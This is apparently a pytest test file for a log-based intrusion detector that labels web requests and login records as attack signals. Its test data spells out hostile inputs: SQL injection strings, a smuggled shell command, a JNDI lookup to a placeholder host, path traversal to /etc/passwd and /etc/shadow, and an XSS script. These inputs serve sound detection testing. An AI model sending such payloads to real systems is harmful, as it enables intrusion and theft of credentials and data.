"""Single records that are signs of an attack."""

from __future__ import annotations

import io

import pytest

from crosscut.detection.signals import SUSPICIOUS_FAILURES, SignalMarker
from crosscut.detection.signs import signal_of
from crosscut.formats import parse_records
from crosscut.model import SIGNAL_ATTRIBUTE, RedactedRecord
from crosscut.reading import LineReader
from crosscut.redaction import Redactor
from tests.unit.writing import NOW, access, entry, syslog


def records(*lines: str) -> list[RedactedRecord]:
    text = "".join(f"{line}\n" for line in lines)
    reader = LineReader(io.BytesIO(text.encode()), name="x.log")
    return Redactor(key=b"synthetic-key").records(list(parse_records(reader, NOW)))


def request(
    target: str, *, status: int = 404, method: str = "GET", agent: str = "Mozilla/5.0"
) -> RedactedRecord:
    (record,) = records(access(0, "203.0.113.66", f"{method} {target}", status, agent=agent))
    return record


def signals(*lines: str) -> list[str]:
    return [str(r.attributes.get(SIGNAL_ATTRIBUTE, "")) for r in SignalMarker().mark(records(*lines))]


@pytest.mark.parametrize(
    ("target", "signal"),
    [
        ("/search?q=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--", "sql-injection"),
        ("/search?q=%27+OR+1%3D1--+-", "sql-injection"),
        ("/item?id=1;DROP%20TABLE%20users", "sql-injection"),
        ("/item?id=1%2527%2520OR%25201%253D1", "sql-injection"),
        ("/item?id=sleep(5)", "sql-injection"),
        ("/search?q=1%3BSELECT%20pg_sleep%285%29--", "sql-injection"),
        ("/ping?host=127.0.0.1;cat%20/etc/hosts", "command-injection"),
        ("/?x=${jndi:ldap://203.0.113.7/a}", "jndi-lookup"),
        ("/static/..%2f..%2f..%2fetc%2fpasswd", "path-traversal"),
        ("/download?file=../../etc/shadow", "path-traversal"),
        ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "cross-site-scripting"),
        ("/.env", "scanner"),
        ("/.git/config", "scanner"),
        ("/wp-login.php", "scanner"),
        ("/phpmyadmin/index.php", "scanner"),
        ("/backup.sql", "scanner"),
    ],
)
def test_a_probe_is_known_by_what_it_asks_for(target: str, signal: str) -> None:
    assert signal_of(request(target)) == signal


@pytest.mark.parametrize(
    "target",
    [
        "/search?q=union+jack+t-shirt",
        "/search?q=drop+earrings",
        "/search?q=select+all",
        "/product/1042",
        "/environment",
        "/static/app.min.js?v=1.2.3",
        "/search?q=rock+and+roll+%3D+life",
        "/blog/how-to-sleep-better",
        "/files/report..final.pdf",
        "/account/login-history",
    ],
)
def test_what_customers_ask_for_is_none(target: str) -> None:
    assert signal_of(request(target, status=200)) == ""


def test_a_scanner_is_known_by_its_agent() -> None:
    assert signal_of(request("/product/1", status=200, agent="sqlmap/1.8#stable")) == "scanner"


@pytest.mark.parametrize(
    ("method", "status", "signal"),
    [("POST", 401, "auth-failure"), ("POST", 302, "auth-success"), ("GET", 200, ""), ("POST", 500, "")],
)
def test_a_login_is_judged_by_its_status(method: str, status: int, signal: str) -> None:
    assert signal_of(request("/login", method=method, status=status)) == signal


@pytest.mark.parametrize(
    "line",
    [
        syslog(0, "sshd[7]", "Failed password for invalid user admin from 203.0.113.7 port 40000 ssh2"),
        syslog(0, "sshd[7]", "pam_unix(sshd:auth): authentication failure; uid=0 rhost=203.0.113.7"),
        entry(0, "WARN", "auth", "login failed for user alice", client_ip="203.0.113.7"),
        entry(0, "WARN", "auth", "invalid credentials", remote_addr="203.0.113.7"),
    ],
)
def test_a_failed_login_is_known_by_its_words(line: str) -> None:
    assert signals(line) == ["auth-failure"]


def test_a_failure_of_ours_is_nobodys_attack() -> None:
    assert signals(entry(0, "ERROR", "auth", "Authentication failed: Redis connection timeout")) == [""]


def test_a_successful_login_is_a_sign_only_after_failed_ones() -> None:
    failed = syslog(0, "sshd[7]", "Failed password for root from 203.0.113.7 port 40000 ssh2")
    accepted = syslog(1, "sshd[7]", "Accepted password for root from 203.0.113.7 port 40001 ssh2")

    assert signals(accepted) == [""]
    assert signals(*[failed] * (SUSPICIOUS_FAILURES - 1), accepted)[-1] == ""
    assert signals(*[failed] * SUSPICIOUS_FAILURES, accepted)[-1] == "auth-success"


def test_failures_of_one_address_say_nothing_of_another() -> None:
    failed = syslog(0, "sshd[7]", "Failed password for root from 203.0.113.7 port 40000 ssh2")
    accepted = syslog(1, "sshd[7]", "Accepted publickey for alice from 198.51.100.4 port 40001 ssh2")

    assert signals(*[failed] * 50, accepted)[-1] == ""


def test_the_address_is_kept_as_its_pseudonym() -> None:
    (marked,) = SignalMarker().mark(
        records(syslog(0, "sshd[7]", "Failed password for root from 203.0.113.7 port 40000 ssh2"))
    )

    assert str(marked.attributes["client.address"]).startswith("<IP:")


def test_records_without_a_sign_pass_as_they_are() -> None:
    plain = records(syslog(0, "CRON[1]", "(root) CMD (run-parts)"))

    assert list(SignalMarker().mark(plain)) == plain
